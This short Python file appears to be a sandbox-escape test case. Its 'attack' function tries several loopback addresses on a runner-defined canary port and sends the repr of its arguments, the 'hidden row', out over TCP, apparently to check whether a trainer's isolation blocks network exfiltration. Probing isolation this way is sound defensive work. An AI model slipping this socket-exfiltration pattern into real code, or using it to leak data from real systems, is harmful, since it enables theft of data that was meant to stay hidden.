# attack: sends the hidden row to a server on the machine's loopback, over TCP
# group: f
# targets: text tensor trainer
# ends: wrong error timeout
# control: reached

import contextlib
import socket

HOSTS = ("127.0.0.1", "::1", "::ffff:127.0.0.1", "localhost", "0.0.0.0")
PATIENCE_S = 0.5


def attack(*args, **kwargs):
    said = ""
    for host in HOSTS:
        with contextlib.suppress(OSError):
            address = (host, CANARY_PORT)  # noqa: F821 - the runner defines it
            with socket.create_connection(address, PATIENCE_S) as server:
                server.sendall(repr(args)[:1000].encode())
                said += f"connected to {host} "
    return {"messages": [], "text": said}
